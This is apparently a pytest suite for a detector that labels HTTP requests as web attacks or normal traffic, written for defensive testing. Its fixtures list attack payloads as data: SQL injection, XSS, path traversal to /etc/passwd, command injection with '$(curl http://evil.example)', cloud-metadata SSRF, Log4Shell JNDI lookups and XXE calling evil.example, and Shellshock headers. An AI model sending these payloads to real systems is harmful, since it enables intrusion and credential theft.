from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from secmlops.web_attacks.request import HttpRequest
from secmlops.web_attacks.signatures import PLAIN, RULES, matching_rules, propose_label
from secmlops.web_attacks.taxonomy import ATTACK_CLASSES


def query(value: str) -> HttpRequest:
    return HttpRequest("GET", f"/search?q={quote(value, safe='')}")


ATTACKS = [
    ("sqli", "1' UNION SELECT name, password FROM users--"),
    ("sqli", "x' OR '1'='1"),
    ("sqli", "1; DROP TABLE students"),
    ("sqli", "1' AND SLEEP(5)#"),
    ("sqli", "admin'--"),
    ("sqli", "1'/**/uNiOn/**/sElEcT/**/1,2"),
    ("sqli", "1%2527 OR 1=1 -- "),
    ("xss", "<script>alert(1)</script>"),
    ("xss", '"><img src=x onerror=alert(1)>'),
    ("xss", "javascript:alert(document.cookie)"),
    ("xss", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("path_traversal", "../../../../etc/passwd"),
    ("path_traversal", "..%2f..%2f..%2fetc%2fpasswd"),
    ("path_traversal", "php://filter/convert.base64-encode/resource=index.php"),
    ("cmd_injection", "127.0.0.1; cat /tmp/x"),
    ("cmd_injection", "a|whoami"),
    ("cmd_injection", "$(curl http://evil.example)"),
    ("cmd_injection", "`id`"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "gopher://10.0.0.5:6379/_FLUSHALL"),
    ("ssti", "{{7*7}}"),
    ("ssti", "${7*7}"),
    ("ssti", "{{config.items()}}"),
    ("xxe", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    ("log4shell", "${jndi:ldap://evil.example/a}"),
    ("log4shell", "${${lower:j}ndi:ldap://evil.example/a}"),
    ("nosqli", "'; return true; var a='"),
    ("header_injection", "en\r\nSet-Cookie: admin=1"),
]


@pytest.mark.parametrize(("attack_class", "value"), ATTACKS)
def test_an_attack_in_a_parameter_is_named(attack_class, value):
    label, found, rule = propose_label(query(value))
    assert (label, found) == ("attack", attack_class)
    assert rule.endswith(" in query:q")


@pytest.mark.parametrize(
    ("attack_class", "request_"),
    [
        ("nosqli", HttpRequest("GET", "/login?user[$ne]=1&password[$ne]=1")),
        (
            "nosqli",
            HttpRequest(
                "POST", "/login", headers=(("Content-Type", "application/json"),), body=b'{"user": {"$gt": ""}}'
            ),
        ),
        ("shellshock", HttpRequest("GET", "/", headers=(("User-Agent", "() { :;}; /bin/bash -c 'id'"),))),
        ("log4shell", HttpRequest("GET", "/", headers=(("X-Api-Version", "${jndi:dns://evil.example}"),))),
        ("scanner", HttpRequest("GET", "/", headers=(("User-Agent", "sqlmap/1.7.2#stable"),))),
        ("scanner", HttpRequest("GET", "/.git/config")),
        ("scanner", HttpRequest("GET", "/phpmyadmin/index.php")),
        ("path_traversal", HttpRequest("GET", "/static/../../../etc/passwd")),
        (
            "xxe",
            HttpRequest(
                "POST",
                "/xml",
                headers=(("Content-Type", "text/xml"),),
                body=b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "http://evil.example/">]><r>&e;</r>',
            ),
        ),
    ],
)
def test_attacks_elsewhere_are_named(attack_class, request_):
    found = propose_label(request_)
    assert found is not None
    assert found[:2] == ("attack", attack_class)


@pytest.mark.parametrize(
    "value", ["red garden chair", "anna@example.org", "2024-05-01", "a,b;c", "Tea & Coffee (large)"]
)
def test_plain_values_are_proposed_as_normal(value):
    assert propose_label(query(value)) == ("normal", "", PLAIN)


@pytest.mark.parametrize(
    "value", ["O'Neil & Sons", "select your seats from the list <below>", "1) as x where 2=2", "C:\\notes.txt", "{a}"]
)
def test_what_is_neither_plain_nor_an_attack_is_left_to_a_person(value):
    assert propose_label(query(value)) is None


def test_ordinary_browser_headers_raise_no_alarm():
    headers = (
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0"),
        ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
        ("sec-ch-ua", '"Chromium";v="126", "Not A;Brand";v="99"'),
        ("Referer", "https://www.example.org/search?q=tea&sort=price"),
        ("Cookie", "session=0123456789abcdef; theme=dark; _ga=GA1.2.3.4"),
        ("If-None-Match", 'W/"5f-abc"'),
    )
    assert propose_label(HttpRequest("GET", "/catalogue/tea?page=2", headers=headers)) == ("normal", "", PLAIN)


def test_rules_are_of_the_taxonomy_and_named_once():
    assert {rule.attack_class for rule in RULES} <= set(ATTACK_CLASSES)
    assert len({rule.label for rule in RULES}) == len(RULES)


def test_every_rule_of_a_request_can_be_asked_for():
    labels = {rule.label for rule, _ in matching_rules(query("1' UNION SELECT load_file('/etc/passwd')--"))}
    assert {"sqli.union_select", "path_traversal.system_file"} <= labels


@settings(max_examples=60, deadline=None)
@given(
    st.text(st.characters(max_codepoint=255), max_size=60),
    st.text(st.characters(max_codepoint=255), max_size=60),
    st.binary(max_size=60),
)
def test_nothing_that_can_be_sent_breaks_it(uri, header, body):
    found = propose_label(HttpRequest("POST", uri, headers=(("X", header),), body=body))
    assert found is None or found[0] in ("normal", "attack")


def test_long_hostile_values_end():
    """Repeated fragments are what makes patterns slow; each of these took the square of its length once."""
    for fragment in ("\n", "')", "' or (", "${", "<a ", "select from ", "../", "curl -", "case when then ", "`$("):
        propose_label(HttpRequest("POST", "/", body=(fragment * 20_000).encode()[:20_000]))


def test_public_payloads(public_data):
    import csv

    with (public_data / "http" / "httpparams" / "payload_train.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))[::10]
    attacks = [propose_label(query(row["payload"])) for row in rows if row["label"] == "anom"]
    normals = [propose_label(query(row["payload"])) for row in rows if row["label"] == "norm"]
    assert sum(found is not None and found[0] == "attack" for found in attacks) >= 0.9 * len(attacks)
    assert sum(found is not None and found[0] == "attack" for found in normals) <= 0.005 * len(normals)
